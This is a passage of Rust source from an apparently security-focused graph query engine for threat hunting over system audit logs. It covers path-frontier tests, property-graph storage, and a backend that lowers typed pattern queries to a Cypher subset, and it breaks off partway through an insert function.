        ev(&mut g, 3, p4, f5, "write"); // suffix exists first
        acc.extend(f.advance(&g));
        ev(&mut g, 4, p1, p4, "fork"); // new middle edge
        acc.extend(f.advance(&g));
        acc.sort_unstable();
        acc.dedup();
        assert_eq!(acc, batch_pairs(&g, &q));
    }

    /// Final-hop operations: prefix cached, final edge constrained; new
    /// final edges fire against old prefixes and vice versa.
    #[test]
    fn final_hop_op_matches_batch() {
        let mut g = Graph::new();
        let dict = g.dict().clone();
        let q = req(1, Some(3), Some("write"), &dict);
        let mut f = PathFrontier::new(&q, &dict).unwrap().unwrap();
        let mut acc: Vec<(i64, i64)> = Vec::new();

        let p0 = proc(&mut g, 0, "/bin/tar");
        let p1 = proc(&mut g, 1, "/bin/bzip2");
        let fa = file(&mut g, 2, "/tmp/a");
        ev(&mut g, 0, p0, p1, "fork");
        acc.extend(f.advance(&g));
        assert!(acc.is_empty());

        // New final edge: fires against the cached prefix endpoint p1 (for
        // anchor p0) and against p1's own zero-length prefix.
        ev(&mut g, 1, p1, fa, "write");
        acc.extend(f.advance(&g));
        assert_eq!(acc, vec![(0, 2), (1, 2)]);
        assert_eq!(acc, batch_pairs(&g, &q));

        // `read` final edges never match.
        let fb = file(&mut g, 3, "/tmp/b");
        ev(&mut g, 2, p1, fb, "read");
        assert!(f.advance(&g).is_empty());
        assert_eq!(batch_pairs(&g, &q).len(), 2);
    }

    /// Shapes outside the equivalence envelope are refused.
    #[test]
    fn ineligible_shapes_are_refused() {
        let dict = SharedDict::new();
        // Single hop stays on the existing delta path.
        assert!(PathFrontier::new(&req(1, Some(1), None, &dict), &dict).unwrap().is_none());
        // Lower bounds beyond the shortest-walk witness are refused.
        assert!(PathFrontier::new(&req(2, Some(4), None, &dict), &dict).unwrap().is_none());
        assert!(PathFrontier::new(&req(3, Some(4), Some("write"), &dict), &dict)
            .unwrap()
            .is_none());
        // ... but `min == 2` with a final hop has prefix lower bound 1.
        assert!(PathFrontier::new(&req(2, Some(4), Some("write"), &dict), &dict)
            .unwrap()
            .is_some());
    }

    /// Encode/decode round-trips the incremental state byte-for-byte.
    #[test]
    fn state_round_trips() {
        let mut g = Graph::new();
        let dict = g.dict().clone();
        let q = req(1, Some(3), None, &dict);
        let mut f = PathFrontier::new(&q, &dict).unwrap().unwrap();
        let p0 = proc(&mut g, 0, "/bin/tar");
        let p1 = proc(&mut g, 1, "/bin/sh");
        let fa = file(&mut g, 2, "/tmp/a");
        ev(&mut g, 0, p0, p1, "fork");
        ev(&mut g, 1, p1, fa, "write");
        let emitted = f.advance(&g);
        assert!(!emitted.is_empty());

        let mut buf = Vec::new();
        f.encode(&mut buf);
        let mut g2 = PathFrontier::new(&q, &dict).unwrap().unwrap();
        let mut cur = io::Cur::new(&buf);
        g2.decode(&mut cur).unwrap();
        g2.seed_seen(emitted.iter().copied());
        let mut buf2 = Vec::new();
        g2.encode(&mut buf2);
        assert_eq!(buf, buf2);
        assert_eq!(f.entries(), g2.entries());

        // The restored frontier continues where the original left off.
        let f5 = file(&mut g, 5, "/tmp/b");
        ev(&mut g, 2, p1, f5, "write");
        assert_eq!(f.advance(&g), g2.advance(&g));
    }
}
