//! An embedded property-graph engine with a Cypher subset.
//!
//! ThreatRaptor stores system entities as nodes and system events as edges
//! in Neo4j, and compiles TBQL *variable-length event path patterns* into
//! Cypher data queries (Sections III-B, III-F). This crate is the Neo4j
//! stand-in:
//!
//! * [`graph`] — node/edge arenas with adjacency lists, labels, typed
//!   property maps, and per-(label, property) value indexes,
//! * [`cypher`] — lexer, AST, parser and executor for the Cypher subset the
//!   compiled queries need: `MATCH` with fixed and variable-length
//!   (`[:EVENT*2..4]`) relationship patterns, property maps, `WHERE` with
//!   comparisons / `CONTAINS` / `STARTS WITH` / `ENDS WITH` / `IN`,
//!   `RETURN [DISTINCT]`, `LIMIT`.
//!
//! Deviation from Neo4j worth knowing: relationship uniqueness is enforced
//! *within* each variable-length segment (preventing cycles from looping
//! forever) but not across separate pattern parts — TBQL patterns are
//! independent constraints, so two event patterns may legitimately match the
//! same stored event.

pub mod backend;
pub mod cypher;
pub mod frontier;
pub mod graph;

pub use cypher::exec::{CypherResult, GraphQueryStats};
pub use frontier::PathFrontier;
pub use graph::{EdgeId, Graph, NodeId, PropValue};
