//! Property graph storage.
//!
//! Nodes carry a label (`Process` / `File` / `NetConn` for audit data) and a
//! property map; edges carry a label (`EVENT`) plus properties and connect
//! two nodes. Adjacency lists give index-free traversal in both directions.
//! A per-(label, property) value index accelerates anchor-node lookup by
//! property equality, and its key set doubles as the distinct-value
//! dictionary that `CONTAINS` predicates scan.

use raptor_common::error::{Error, Result};
use raptor_common::hash::FxHashMap;
use raptor_common::intern::{SharedDict, Sym};
use raptor_common::pool::Pool;
use raptor_storage::{EntityClass, StoreStats};

/// Node id (arena index).
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub struct NodeId(pub u32);

/// Edge id (arena index).
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub struct EdgeId(pub u32);

/// A property value. Strings are interned in the graph's dictionary.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum PropValue {
    Int(i64),
    Str(Sym),
}

#[derive(Debug)]
pub struct Node {
    pub label: Sym,
    pub props: Vec<(Sym, PropValue)>,
}

#[derive(Debug)]
pub struct Edge {
    pub src: NodeId,
    pub dst: NodeId,
    pub label: Sym,
    pub props: Vec<(Sym, PropValue)>,
}

/// The property graph.
pub struct Graph {
    dict: SharedDict,
    nodes: Vec<Node>,
    edges: Vec<Edge>,
    out: Vec<Vec<EdgeId>>,
    inn: Vec<Vec<EdgeId>>,
    /// label → node ids.
    label_nodes: FxHashMap<Sym, Vec<NodeId>>,
    /// (node label, prop key) → string prop value → node ids. Built lazily
    /// via [`Graph::create_node_index`].
    value_index: FxHashMap<(Sym, Sym), FxHashMap<PropValue, Vec<NodeId>>>,
    /// Data statistics, maintained incrementally by [`Graph::add_node`] /
    /// [`Graph::add_edge`] and keyed by the backend-neutral table
    /// vocabulary so they compare equal to the relational store's stats for
    /// the same data. Served scan-free via `StorageBackend::stats`.
    stats: StoreStats,
    /// Worker pool for fanning path search out per anchor node (see
    /// `cypher::exec`). One thread ⇒ the exact sequential code paths.
    pool: Pool,
}

/// Backend-neutral stats table for a node/edge label, plus the entity class
/// when the label is one of the audit classes.
fn stats_table_for_label(label: &str) -> (&str, Option<EntityClass>) {
    match label {
        "Process" => ("processes", Some(EntityClass::Process)),
        "File" => ("files", Some(EntityClass::File)),
        "NetConn" => ("netconns", Some(EntityClass::NetConn)),
        "EVENT" => ("events", None),
        other => (other, None),
    }
}

/// A property being written (strings interned on the way in).
#[derive(Clone, Copy, Debug)]
pub enum PropIns<'a> {
    Int(i64),
    Str(&'a str),
}

impl Default for Graph {
    fn default() -> Self {
        Self::with_dict(SharedDict::new())
    }
}

impl Graph {
    /// A graph over its own private dictionary.
    pub fn new() -> Self {
        Self::default()
    }

    /// A graph interning into `dict` — the shared dictionary plane. The
    /// engine hands one dictionary to both backends at `empty()`/`load()`
    /// time so equal strings compare as equal symbols across stores.
    pub fn with_dict(dict: SharedDict) -> Self {
        Graph {
            stats: StoreStats::new(dict.clone()),
            dict,
            nodes: Vec::new(),
            edges: Vec::new(),
            out: Vec::new(),
            inn: Vec::new(),
            label_nodes: FxHashMap::default(),
            value_index: FxHashMap::default(),
            pool: Pool::default(),
        }
    }

    pub fn dict(&self) -> &SharedDict {
        &self.dict
    }

    /// The incrementally-maintained data statistics (also reachable through
    /// `StorageBackend::stats`).
    pub fn store_stats(&self) -> &StoreStats {
        &self.stats
    }

    /// The worker pool path search fans out on. Defaults to
    /// `RAPTOR_THREADS` / available parallelism; see [`Graph::set_threads`].
    pub fn pool(&self) -> Pool {
        self.pool
    }

    /// Pins the traversal worker count (1 ⇒ strictly sequential).
    pub fn set_threads(&mut self, threads: usize) {
        self.pool = Pool::with_threads(threads);
    }

    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }

    pub fn edge_count(&self) -> usize {
        self.edges.len()
    }

    pub fn node(&self, id: NodeId) -> &Node {
        &self.nodes[id.0 as usize]
    }

    pub fn edge(&self, id: EdgeId) -> &Edge {
        &self.edges[id.0 as usize]
    }

    pub fn out_edges(&self, id: NodeId) -> &[EdgeId] {
        &self.out[id.0 as usize]
    }

    pub fn in_edges(&self, id: NodeId) -> &[EdgeId] {
        &self.inn[id.0 as usize]
    }

    /// All nodes with a label.
    pub fn nodes_with_label(&self, label: &str) -> &[NodeId] {
        self.dict
            .get(label)
            .and_then(|sym| self.label_nodes.get(&sym))
            .map(Vec::as_slice)
            .unwrap_or(&[])
    }

    /// Iterates node ids.
    pub fn node_ids(&self) -> impl Iterator<Item = NodeId> {
        (0..self.nodes.len() as u32).map(NodeId)
    }

    /// Interns a label and property list into the shared plane and records
    /// one stats row from the interned values — the shared prefix of
    /// [`Graph::add_node`] / [`Graph::add_edge`]. Interning happens first
    /// so the frequency maps key on the dictionary with no second lookup.
    fn intern_and_record(
        &mut self,
        label: &str,
        props: &[(&str, PropIns<'_>)],
    ) -> (Sym, Vec<(Sym, PropValue)>) {
        let label_sym = self.dict.intern(label);
        let interned: Vec<(Sym, PropValue)> = props
            .iter()
            .map(|(k, v)| {
                let key = self.dict.intern(k);
                let val = match v {
                    PropIns::Int(i) => PropValue::Int(*i),
                    PropIns::Str(s) => PropValue::Str(self.dict.intern(s)),
                };
                (key, val)
            })
            .collect();
        let (table, _) = stats_table_for_label(label);
        let ts = self.stats.table_mut(table);
        ts.record_row();
        for ((k, _), (_, val)) in props.iter().zip(&interned) {
            match val {
                PropValue::Int(i) => ts.record_int(k, *i),
                PropValue::Str(s) => ts.record_sym(k, *s),
            }
        }
        (label_sym, interned)
    }

    pub fn add_node(&mut self, label: &str, props: &[(&str, PropIns<'_>)]) -> NodeId {
        let (label_sym, interned) = self.intern_and_record(label, props);
        // Class/degree registration for audit entity labels (keyed by the
        // `id` property, which the MutableBackend contract keeps equal to
        // the arena node id).
        if let (_, Some(class)) = stats_table_for_label(label) {
            let id = props
                .iter()
                .find_map(|(k, v)| match (*k, v) {
                    ("id", PropIns::Int(i)) => Some(*i),
                    _ => None,
                })
                .unwrap_or(self.nodes.len() as i64);
            self.stats.record_node(class, id);
        }
        let (label, props) = (label_sym, interned);
        let id = NodeId(self.nodes.len() as u32);
        self.nodes.push(Node { label, props });
        self.out.push(Vec::new());
        self.inn.push(Vec::new());
        self.label_nodes.entry(label).or_default().push(id);
        // Maintain any existing value indexes covering this label.
        let node = self.nodes.last().unwrap();
        for &(key, val) in &node.props {
            if let Some(ix) = self.value_index.get_mut(&(label, key)) {
                ix.entry(val).or_default().push(id);
            }
        }
        id
    }

    pub fn add_edge(
        &mut self,
        src: NodeId,
        dst: NodeId,
        label: &str,
        props: &[(&str, PropIns<'_>)],
    ) -> Result<EdgeId> {
        if src.0 as usize >= self.nodes.len() || dst.0 as usize >= self.nodes.len() {
            return Err(Error::storage("edge endpoint does not exist"));
        }
        let (label_sym, interned) = self.intern_and_record(label, props);
        // Stats: EVENT edges mirror the relational `events` rows — the
        // structural endpoints count as `subject`/`object` columns so both
        // backends' stats compare equal (at the symbol level) for the same
        // data.
        if label == "EVENT" {
            let (table, _) = stats_table_for_label(label);
            let ts = self.stats.table_mut(table);
            ts.record_int("subject", src.0 as i64);
            ts.record_int("object", dst.0 as i64);
            let optype_key = self.dict.intern("optype");
            let op = interned.iter().find_map(|&(k, v)| match v {
                PropValue::Str(s) if k == optype_key => Some(s),
                _ => None,
            });
            self.stats.record_edge(src.0 as i64, dst.0 as i64, op);
        }
        let (label, props) = (label_sym, interned);
        let id = EdgeId(self.edges.len() as u32);
        self.edges.push(Edge { src, dst, label, props });
        self.out[src.0 as usize].push(id);
        self.inn[dst.0 as usize].push(id);
        Ok(id)
    }

    /// Builds (or rebuilds) the value index for `(label, key)`.
    pub fn create_node_index(&mut self, label: &str, key: &str) {
        let label = self.dict.intern(label);
        let key = self.dict.intern(key);
        let mut ix: FxHashMap<PropValue, Vec<NodeId>> = FxHashMap::default();
        if let Some(ids) = self.label_nodes.get(&label) {
            for &id in ids {
                if let Some(v) = prop_of(&self.nodes[id.0 as usize].props, key) {
                    ix.entry(v).or_default().push(id);
                }
            }
        }
        self.value_index.insert((label, key), ix);
    }

    /// Point lookup through the value index, if one exists.
    pub fn indexed_nodes(&self, label: &str, key: &str, value: PropValue) -> Option<&[NodeId]> {
        let label = self.dict.get(label)?;
        let key = self.dict.get(key)?;
        let ix = self.value_index.get(&(label, key))?;
        Some(ix.get(&value).map(Vec::as_slice).unwrap_or(&[]))
    }

    /// Distinct string values of an indexed (label, key), for CONTAINS scans.
    pub fn indexed_values(&self, label: &str, key: &str) -> Option<Vec<(Sym, &[NodeId])>> {
        let label = self.dict.get(label)?;
        let key = self.dict.get(key)?;
        let ix = self.value_index.get(&(label, key))?;
        let mut out = Vec::with_capacity(ix.len());
        for (v, ids) in ix {
            if let PropValue::Str(s) = v {
                out.push((*s, ids.as_slice()));
            }
        }
        Some(out)
    }

    /// Property of a node by key name.
    pub fn node_prop(&self, id: NodeId, key: &str) -> Option<PropValue> {
        let key = self.dict.get(key)?;
        prop_of(&self.nodes[id.0 as usize].props, key)
    }

    /// Property of an edge by key name.
    pub fn edge_prop(&self, id: EdgeId, key: &str) -> Option<PropValue> {
        let key = self.dict.get(key)?;
        prop_of(&self.edges[id.0 as usize].props, key)
    }

    /// Renders a property value for display.
    pub fn render(&self, v: PropValue) -> String {
        match v {
            PropValue::Int(i) => i.to_string(),
            PropValue::Str(s) => self.dict.resolve(s).to_string(),
        }
    }
}

pub(crate) fn prop_of(props: &[(Sym, PropValue)], key: Sym) -> Option<PropValue> {
    props.iter().find(|(k, _)| *k == key).map(|&(_, v)| v)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny() -> (Graph, NodeId, NodeId, NodeId) {
        let mut g = Graph::new();
        let p = g.add_node(
            "Process",
            &[("exename", PropIns::Str("/bin/tar")), ("pid", PropIns::Int(100))],
        );
        let f = g.add_node("File", &[("name", PropIns::Str("/etc/passwd"))]);
        let f2 = g.add_node("File", &[("name", PropIns::Str("/tmp/upload.tar"))]);
        g.add_edge(
            p,
            f,
            "EVENT",
            &[("optype", PropIns::Str("read")), ("starttime", PropIns::Int(100))],
        )
        .unwrap();
        g.add_edge(
            p,
            f2,
            "EVENT",
            &[("optype", PropIns::Str("write")), ("starttime", PropIns::Int(200))],
        )
        .unwrap();
        (g, p, f, f2)
    }

    #[test]
    fn adjacency() {
        let (g, p, f, f2) = tiny();
        assert_eq!(g.out_edges(p).len(), 2);
        assert_eq!(g.in_edges(f), &[EdgeId(0)]);
        assert_eq!(g.in_edges(f2), &[EdgeId(1)]);
        assert_eq!(g.edge(EdgeId(0)).dst, f);
        assert_eq!(g.node_count(), 3);
        assert_eq!(g.edge_count(), 2);
    }

    #[test]
    fn labels_partition_nodes() {
        let (g, p, ..) = tiny();
        assert_eq!(g.nodes_with_label("Process"), &[p]);
        assert_eq!(g.nodes_with_label("File").len(), 2);
        assert!(g.nodes_with_label("NetConn").is_empty());
    }

    #[test]
    fn props_accessible() {
        let (g, p, f, _) = tiny();
        assert_eq!(g.node_prop(p, "pid"), Some(PropValue::Int(100)));
        assert_eq!(g.render(g.node_prop(f, "name").unwrap()), "/etc/passwd");
        assert_eq!(g.node_prop(p, "missing"), None);
        assert_eq!(g.render(g.edge_prop(EdgeId(0), "optype").unwrap()), "read");
    }

    #[test]
    fn value_index_point_and_scan() {
        let (mut g, p, ..) = tiny();
        g.create_node_index("Process", "exename");
        let sym = g.dict().get("/bin/tar").unwrap();
        assert_eq!(g.indexed_nodes("Process", "exename", PropValue::Str(sym)).unwrap(), &[p]);
        // Unknown value: empty slice, not None.
        let other = PropValue::Int(42);
        assert_eq!(g.indexed_nodes("Process", "exename", other).unwrap(), &[] as &[NodeId]);
        // Distinct values enumerable.
        let vals = g.indexed_values("Process", "exename").unwrap();
        assert_eq!(vals.len(), 1);
        // No index ⇒ None.
        assert!(g.indexed_nodes("File", "name", other).is_none());
    }

    #[test]
    fn index_maintained_on_insert() {
        let (mut g, ..) = tiny();
        g.create_node_index("File", "name");
        let f3 = g.add_node("File", &[("name", PropIns::Str("/tmp/new"))]);
        let sym = g.dict().get("/tmp/new").unwrap();
        assert_eq!(g.indexed_nodes("File", "name", PropValue::Str(sym)).unwrap(), &[f3]);
    }

    #[test]
    fn bad_edge_rejected() {
        let mut g = Graph::new();
        let n = g.add_node("X", &[]);
        assert!(g.add_edge(n, NodeId(99), "E", &[]).is_err());
    }
}
