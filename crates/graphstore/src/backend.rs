//! The typed [`StorageBackend`] implementation.
//!
//! Typed requests are lowered straight to the Cypher *AST*
//! ([`crate::cypher::ast`]) — the lexer/parser are never involved — and run
//! through the normal executor, sharing its anchor selection and traversal
//! machinery. Attribute fetches read the graph arenas directly.

use raptor_common::error::{Error, Result};
use raptor_common::hash::FxHashSet;
use raptor_common::intern::SharedDict;
use raptor_common::obs;
use raptor_storage::{
    AttrSource, BackendStats, EntityClass, EventPatternQuery, Field, FieldValue, MutableBackend,
    PathPatternQuery, PatternMatches, Pred, StorageBackend, Value as SVal,
};

use crate::cypher::ast::{
    CExpr, CLit, COp, CmpRhs, CypherQuery, NodePattern, PathPattern, PropRef, RelPattern,
    ReturnItem, StrPredKind,
};
use crate::cypher::exec::{execute, GVal, GraphQueryStats};
use crate::graph::{Graph, PropIns, PropValue};

pub fn label_for_class(class: EntityClass) -> &'static str {
    match class {
        EntityClass::File => "File",
        EntityClass::Process => "Process",
        EntityClass::NetConn => "NetConn",
    }
}

fn clit(v: &SVal) -> Result<CLit> {
    match v {
        SVal::Int(i) => Ok(CLit::Int(*i)),
        // Pre-interned: the executor evaluates the handle without a
        // dictionary lookup.
        SVal::Str(s) => Ok(CLit::Sym(*s)),
        SVal::Null => Err(Error::semantic("NULL literals are not valid in predicates")),
    }
}

fn cop(op: raptor_storage::CmpOp) -> COp {
    match op {
        raptor_storage::CmpOp::Eq => COp::Eq,
        raptor_storage::CmpOp::Ne => COp::Ne,
        raptor_storage::CmpOp::Lt => COp::Lt,
        raptor_storage::CmpOp::Le => COp::Le,
        raptor_storage::CmpOp::Gt => COp::Gt,
        raptor_storage::CmpOp::Ge => COp::Ge,
    }
}

fn prop(var: &str, attr: &str) -> PropRef {
    PropRef { var: var.to_string(), prop: attr.to_string() }
}

/// `%lit%` → CONTAINS, `%lit` → ENDS WITH, `lit%` → STARTS WITH; other
/// wildcard shapes approximate with CONTAINS on the longest literal run
/// (mirroring the text compiler's historical behavior).
fn like_to_cexpr(var: &str, attr: &str, pattern: &str, negated: bool) -> CExpr {
    let inner = pattern.trim_matches('%');
    let (kind, needle) =
        if pattern.starts_with('%') && pattern.ends_with('%') && !inner.contains('%') {
            (StrPredKind::Contains, inner.to_string())
        } else if pattern.starts_with('%') && !inner.contains('%') {
            (StrPredKind::EndsWith, inner.to_string())
        } else if pattern.ends_with('%') && !inner.contains('%') {
            (StrPredKind::StartsWith, inner.to_string())
        } else {
            let run = inner.split('%').max_by_key(|r| r.len()).unwrap_or("");
            (StrPredKind::Contains, run.to_string())
        };
    let pred = CExpr::StrPred { left: prop(var, attr), kind, needle };
    if negated {
        CExpr::Not(Box::new(pred))
    } else {
        pred
    }
}

/// Lowers a typed predicate to a Cypher WHERE expression over `var`.
pub(crate) fn pred_to_cexpr(var: &str, p: &Pred, dict: &SharedDict) -> Result<CExpr> {
    Ok(match p {
        Pred::Cmp { attr, op, value } => {
            // `= '%…%'` keeps LIKE semantics (defensive: the TBQL lowering
            // already emits `Pred::Like`).
            let wildcard = value.as_sym().map(|s| dict.resolve(s)).filter(|s| s.contains('%'));
            match (op, wildcard) {
                (raptor_storage::CmpOp::Eq, Some(s)) => like_to_cexpr(var, attr, s, false),
                (raptor_storage::CmpOp::Ne, Some(s)) => like_to_cexpr(var, attr, s, true),
                _ => CExpr::Cmp {
                    left: prop(var, attr),
                    op: cop(*op),
                    right: CmpRhs::Lit(clit(value)?),
                },
            }
        }
        Pred::Like { attr, pattern, negated } => like_to_cexpr(var, attr, pattern, *negated),
        Pred::InSet { attr, negated, values } => {
            let base = CExpr::InList {
                left: prop(var, attr),
                list: values.iter().map(clit).collect::<Result<Vec<_>>>()?,
            };
            if *negated {
                CExpr::Not(Box::new(base))
            } else {
                base
            }
        }
        Pred::And(a, b) => CExpr::And(
            Box::new(pred_to_cexpr(var, a, dict)?),
            Box::new(pred_to_cexpr(var, b, dict)?),
        ),
        Pred::Or(a, b) => CExpr::Or(
            Box::new(pred_to_cexpr(var, a, dict)?),
            Box::new(pred_to_cexpr(var, b, dict)?),
        ),
        Pred::Not(inner) => CExpr::Not(Box::new(pred_to_cexpr(var, inner, dict)?)),
    })
}

fn id_in_cexpr(var: &str, ids: &[i64]) -> CExpr {
    // An empty candidate set must match nothing.
    let list = if ids.is_empty() {
        vec![CLit::Int(-1)]
    } else {
        ids.iter().map(|&i| CLit::Int(i)).collect()
    };
    CExpr::InList { left: prop(var, "id"), list }
}

fn and_all(conds: Vec<CExpr>) -> Option<CExpr> {
    conds.into_iter().reduce(|a, b| CExpr::And(Box::new(a), Box::new(b)))
}

fn node(var: &str, class: EntityClass) -> NodePattern {
    NodePattern {
        var: Some(var.to_string()),
        label: Some(label_for_class(class).to_string()),
        props: vec![],
    }
}

fn ret(var: &str, attr: &str) -> ReturnItem {
    ReturnItem { prop: prop(var, attr) }
}

fn absorb_graph(stats: &mut BackendStats, g: &GraphQueryStats) {
    stats.items_scanned += g.nodes_scanned;
    stats.items_built += g.bindings_built;
    stats.edges_traversed += g.edges_traversed;
}

fn gval_int(v: &GVal) -> i64 {
    v.as_int().unwrap_or(-1)
}

fn prop_to_sval(v: PropValue) -> SVal {
    match v {
        PropValue::Int(i) => SVal::Int(i),
        PropValue::Str(s) => SVal::Str(s),
    }
}

impl Graph {
    fn run_query(
        &self,
        q: &CypherQuery,
        hop_cap: u32,
        stats: &mut BackendStats,
    ) -> Result<Vec<Vec<GVal>>> {
        let r = execute(self, q, hop_cap)?;
        absorb_graph(stats, &r.stats);
        stats.data_queries += 1;
        Ok(r.rows)
    }

    /// Collects entity selection conditions shared by both pattern shapes.
    fn entity_conds(
        &self,
        sel: &raptor_storage::EntitySel,
        var: &str,
        conds: &mut Vec<CExpr>,
    ) -> Result<()> {
        if let Some(f) = &sel.filter {
            conds.push(pred_to_cexpr(var, f, self.dict())?);
        }
        if let Some(ids) = &sel.id_in {
            conds.push(id_in_cexpr(var, ids));
        }
        Ok(())
    }
}

impl StorageBackend for Graph {
    fn backend_name(&self) -> &'static str {
        "graph"
    }

    fn stats(&self) -> &raptor_storage::StoreStats {
        self.store_stats()
    }

    fn entity_candidates(
        &self,
        class: EntityClass,
        filter: &Pred,
        stats: &mut BackendStats,
    ) -> Result<Vec<i64>> {
        let q = CypherQuery {
            paths: vec![PathPattern { start: node("x", class), segments: vec![] }],
            where_clause: Some(pred_to_cexpr("x", filter, self.dict())?),
            distinct: true,
            return_items: vec![ret("x", "id")],
            limit: None,
        };
        let rows = self.run_query(&q, 1, stats)?;
        let mut ids: Vec<i64> = rows.iter().filter_map(|r| r[0].as_int()).collect();
        ids.sort_unstable();
        ids.dedup();
        Ok(ids)
    }

    fn match_event_pattern(
        &self,
        q: &EventPatternQuery,
        stats: &mut BackendStats,
    ) -> Result<PatternMatches> {
        let path = PathPatternQuery {
            subject: q.subject.clone(),
            object: q.object.clone(),
            min_hops: 1,
            max_hops: Some(1),
            hop_cap: 1,
            final_hop_pred: q.event_pred.clone(),
            final_event_id_in: q.event_id_in.clone(),
            want_event: true,
            subject_is_object: q.subject_is_object,
        };
        self.match_path_pattern(&path, stats)
    }

    fn match_path_pattern(
        &self,
        q: &PathPatternQuery,
        stats: &mut BackendStats,
    ) -> Result<PatternMatches> {
        // One TBQL variable bound as both subject and object: reuse the
        // start variable for the end node — the executor then requires the
        // path to close on the same entity (the text compiler got this from
        // the shared variable name).
        let obj_var = if q.subject_is_object { "s" } else { "o" };
        let mut conds: Vec<CExpr> = Vec::new();
        self.entity_conds(&q.subject, "s", &mut conds)?;
        if !q.subject_is_object {
            self.entity_conds(&q.object, obj_var, &mut conds)?;
        }

        let single_hop = q.min_hops == 1 && q.max_hops == Some(1);
        let mut segments: Vec<(RelPattern, NodePattern)> = Vec::new();
        let event_edge = |var: Option<&str>, range| RelPattern {
            var: var.map(str::to_string),
            label: Some("EVENT".to_string()),
            props: vec![],
            range,
        };
        // The edge variable is bound whenever the final hop carries a
        // predicate, but its event columns are *returned* only when the
        // caller wants them — otherwise results stay DISTINCT (subj, obj)
        // pairs and do not multiply per matching final edge.
        let bind_event =
            q.want_event || q.final_hop_pred.is_some() || q.final_event_id_in.is_some();
        if bind_event {
            if let Some(p) = &q.final_hop_pred {
                conds.push(pred_to_cexpr("e", p, self.dict())?);
            }
            // Delta evaluation: restrict the final hop to the caller's
            // event-id set (the epoch's freshly ingested events).
            if let Some(ids) = &q.final_event_id_in {
                let list = if ids.is_empty() {
                    vec![CLit::Int(-1)]
                } else {
                    ids.iter().map(|&i| CLit::Int(i)).collect()
                };
                conds.push(CExpr::InList { left: prop("e", "id"), list });
            }
            if single_hop {
                segments.push((event_edge(Some("e"), None), node(obj_var, q.object.class)));
            } else {
                // TBQL final-hop semantics: unconstrained prefix, then the
                // constrained last edge.
                let prefix_min = q.min_hops.saturating_sub(1);
                let prefix_max = q.max_hops.map(|m| m.saturating_sub(1));
                segments.push((
                    event_edge(None, Some((Some(prefix_min), prefix_max))),
                    NodePattern { var: None, label: None, props: vec![] },
                ));
                segments.push((event_edge(Some("e"), None), node(obj_var, q.object.class)));
            }
        } else if single_hop {
            segments.push((event_edge(None, None), node(obj_var, q.object.class)));
        } else {
            segments.push((
                event_edge(None, Some((Some(q.min_hops), q.max_hops))),
                node(obj_var, q.object.class),
            ));
        }

        let mut return_items = vec![ret("s", "id"), ret(obj_var, "id")];
        if q.want_event {
            return_items.push(ret("e", "id"));
            return_items.push(ret("e", "starttime"));
            return_items.push(ret("e", "endtime"));
        }
        let cq = CypherQuery {
            paths: vec![PathPattern { start: node("s", q.subject.class), segments }],
            where_clause: and_all(conds),
            distinct: true,
            return_items,
            limit: None,
        };
        // One expansion span per path-pattern request (internal frontier
        // partitioning stays invisible: counts are thread-count invariant).
        let rows = {
            let mut sp = obs::span("graphstore.expand");
            let before = *stats;
            let rows = self.run_query(&cq, q.hop_cap, stats)?;
            sp.attr("rows", rows.len() as u64);
            sp.attr("edges", (stats.edges_traversed - before.edges_traversed) as u64);
            sp.attr("nodes", (stats.items_scanned - before.items_scanned) as u64);
            rows
        };
        let mut out = PatternMatches::with_capacity(rows.len(), q.want_event);
        for row in &rows {
            if q.want_event {
                out.push_event(
                    gval_int(&row[0]),
                    gval_int(&row[1]),
                    gval_int(&row[2]),
                    gval_int(&row[3]),
                    gval_int(&row[4]),
                );
            } else {
                out.push_pair(gval_int(&row[0]), gval_int(&row[1]));
            }
        }
        Ok(out)
    }

    fn fetch_attr(
        &self,
        source: AttrSource,
        attr: &str,
        ids: &[i64],
        stats: &mut BackendStats,
    ) -> Result<Vec<(i64, SVal)>> {
        stats.data_queries += 1;
        let mut out = Vec::with_capacity(ids.len());
        match source {
            AttrSource::Entity(class) => {
                let label = label_for_class(class);
                for &id in ids {
                    // Entity ids are indexed on load; fall back to a label
                    // scan only when the index is absent.
                    let nodes = match self.indexed_nodes(label, "id", PropValue::Int(id)) {
                        Some(nodes) => {
                            stats.index_scans += 1;
                            nodes.to_vec()
                        }
                        None => {
                            stats.full_scans += 1;
                            self.nodes_with_label(label)
                                .iter()
                                .copied()
                                .filter(|&n| self.node_prop(n, "id") == Some(PropValue::Int(id)))
                                .collect()
                        }
                    };
                    stats.items_scanned += nodes.len();
                    if let Some(&n) = nodes.first() {
                        if let Some(v) = self.node_prop(n, attr) {
                            out.push((id, prop_to_sval(v)));
                        }
                    }
                }
            }
            AttrSource::Event => {
                // Events are edges; edge properties are not indexed, so scan.
                let wanted: FxHashSet<i64> = ids.iter().copied().collect();
                stats.full_scans += 1;
                for i in 0..self.edge_count() {
                    let eid = crate::graph::EdgeId(i as u32);
                    stats.items_scanned += 1;
                    if let Some(PropValue::Int(id)) = self.edge_prop(eid, "id") {
                        if wanted.contains(&id) {
                            if let Some(v) = self.edge_prop(eid, attr) {
                                out.push((id, prop_to_sval(v)));
                            }
                        }
                    }
                }
                out.sort_by_key(|(id, _)| *id);
            }
        }
        Ok(out)
    }
}

fn props_from_fields<'a>(id: i64, fields: &'a [Field<'a>]) -> Vec<(&'a str, PropIns<'a>)> {
    let mut props = Vec::with_capacity(fields.len() + 1);
    props.push(("id", PropIns::Int(id)));
    for (name, v) in fields {
        props.push((
            *name,
            match v {
                FieldValue::Int(i) => PropIns::Int(*i),
                FieldValue::Str(s) => PropIns::Str(s),
            },
        ));
    }
    props
}

impl MutableBackend for Graph {
    fn insert_entity(
        &mut self,
        class: EntityClass,
        id: i64,
        fields: &[Field<'_>],
        stats: &mut BackendStats,
    ) -> Result<()> {
        // Node ids are arena indexes; the trait contract (dense ascending
        // entity ids) is what keeps `NodeId == entity id` true, which every
        // edge insert and anchor lookup relies on. Check it loudly.
        if id != self.node_count() as i64 {
            return Err(Error::storage(format!(
                "entity id {id} breaks dense insertion order (next node id is {})",
                self.node_count()
            )));
        }
        self.add_node(label_for_class(class), &props_from_fields(id, fields));
        stats.items_inserted += 1;
        Ok(())
    }

    fn insert_event(
        &mut self,
        id: i64,
        subject: i64,
        object: i64,
        fields: &[Field<'_>],
        stats: &mut BackendStats,
